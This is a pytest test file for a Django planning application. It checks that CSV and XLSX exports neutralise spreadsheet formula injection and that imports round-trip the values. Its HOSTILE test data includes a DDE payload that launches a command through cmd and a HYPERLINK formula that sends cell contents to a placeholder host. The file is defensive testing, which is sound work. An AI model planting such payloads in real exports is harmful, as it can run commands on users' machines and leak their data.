"""Every CSV and XLSX export neutralises spreadsheet formulas, and imports read them back.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is run by Excel or
LibreOffice; the exports prefix it with an apostrophe (numbers, negative ones included, stay
numbers), and the imports remove that apostrophe so that a file round-trips.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client
from openpyxl import load_workbook

from ressort import tables
from ressort.actions import services as action_services
from ressort.actions.models import Action, Evaluation
from ressort.analysis import micmac as mm
from ressort.analysis.spreadsheet_cells import neutralise, restore
from ressort.approaches.models import Approach
from ressort.strategy import services as strategy_services
from ressort.strategy.models import BudgetLine, Milestone
from ressort.systems.models import Variable
from ressort.systems.services.micmac import matrix_csv

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&A1,"Cliquez")'
HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def client_of(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def csv_cells(response: Any) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    delimiter = ";" if text.splitlines()[0].count(";") else ","
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def assert_no_live_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), repr(cell)
        assert not cell.startswith("-") or cell.lstrip("-").replace(",", "").isdigit(), cell


def test_neutralise_and_restore() -> None:
    for text in HOSTILE:
        assert neutralise(text) == "'" + text
        assert restore(neutralise(text)) == text
    for kept in ["-3", "-2,5", "+1.5e3", "Eau", "l'eau", "'quoted", "", "3"]:
        assert neutralise(kept) == kept and restore(kept) == kept
    assert neutralise(-3) == -3 and neutralise(2.5) == 2.5 and neutralise(None) is None
    text = tables.csv_text([HOSTILE, ["-4", -4]])
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""), delimiter=";"))
    assert rows == [["'" + t for t in HOSTILE], ["-4", "-4"]]


def test_strategy_calendar_xlsx(approach: Approach, personas: dict[str, Any]) -> None:
    sheet = strategy_services.create_sheet(
        approach, title=FORMULA, pilot_service="@SUM(A1)", start_date=date(2027, 1, 1)
    )
    Milestone.objects.create(sheet=sheet, title="+cmd", due_date=date(2027, 3, 1))
    BudgetLine.objects.create(
        sheet=sheet, kind="investissement", year=2027, label="-x", planned=Decimal("-150")
    )
    response = client_of(personas["partenaire"]).get(
        f"/demarches/{approach.slug}/strategie/calendrier.xlsx"
    )
    book = load_workbook(io.BytesIO(response.content))
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    actions = list(book["Actions"].iter_rows(values_only=True))
    row = next(r for r in actions if r[2] and FORMULA in r[2])
    assert row[2] == "'" + FORMULA and row[3] == "'@SUM(A1)"
    assert next(book["Jalons"].iter_rows(min_row=2, values_only=True))[2] == "'+cmd"
    budget = next(book["Budget"].iter_rows(min_row=2, values_only=True))
    assert budget[4] == "'-x" and budget[5] == -150  # a negative amount stays a number


def test_portfolio_evaluations_csv(approach: Approach, personas: dict[str, Any]) -> None:
    action = Action.objects.create(approach=approach, title=FORMULA)
    Evaluation.objects.create(
        action=action, dimension_code="water", effect=-2, justification="\t=1+1"
    )
    response = client_of(personas["partenaire"]).get(
        f"/demarches/{approach.slug}/portefeuille/evaluations.csv"
    )
    rows = csv_cells(response)
    assert rows[1][0] == "'" + FORMULA and rows[1][-1] == "'\t=1+1" and rows[1][6] == "-2"
    assert_no_live_formula([c for row in rows for c in row])


def test_ballots_csv_round_trip(approach: Approach, personas: dict[str, Any]) -> None:
    a = Action.objects.create(approach=approach, title=FORMULA)
    b = Action.objects.create(approach=approach, title="-Haies")
    action_services.record_ballots(approach, [{a.pk: 3, b.pk: 1}], source="atelier")
    client = client_of(personas["equipe"])
    response = client.get(f"/demarches/{approach.slug}/vote/bulletins.csv")
    rows = csv_cells(response)
    assert sorted(rows[0]) == sorted(["'" + FORMULA, "'-Haies"])
    assert_no_live_formula([c for row in rows for c in row])
    stored, faults = action_services.import_ballots(
        approach, response.content, "bulletins.csv", source="retour"
    )
    assert (stored, faults) == (1, [])


def test_micmac_matrix_csv_round_trip(approach: Approach, personas: dict[str, Any]) -> None:
    Variable.objects.create(approach=approach, name="=1+1")
    Variable.objects.create(approach=approach, name="@Eau")
    response = client_of(personas["equipe"]).get(f"/demarches/{approach.slug}/micmac/matrice.csv")
    rows = csv_cells(response)
    assert rows[0] == ["", "'=1+1", "'@Eau"] and rows[1][0] == "'=1+1"
    assert mm.read_matrix_csv(response.content).names == ("=1+1", "@Eau")
    assert matrix_csv(approach) == response.content.decode()


def test_indicator_template_and_progress_csv(approach: Approach, personas: dict[str, Any]) -> None:
    from ressort.portrait.models import Indicator

    Indicator.objects.create(
        approach=approach, code="ges", name="GES", unit="=A1*2", direction="lower"
    )
    client = client_of(personas["equipe"])
    template = csv_cells(client.get(f"/demarches/{approach.slug}/indicateurs/modele.csv"))
    assert "'=A1*2" in template[1]
    assert_no_live_formula([c for row in template for c in row])
    strategy_services.create_sheet(approach, title="+Rénovation", status="engagee")
    progress = csv_cells(client.get(f"/demarches/{approach.slug}/suivi/avancement.csv"))
    assert progress[1][0] == "'+Rénovation"
    assert_no_live_formula([c for row in progress for c in row])
    parsed = tables.parse(progress, tables.TableSchema(columns=(tables.Column("a", "Action"),)))
    assert parsed[0]["a"] == "+Rénovation"  # the import reads back what was typed
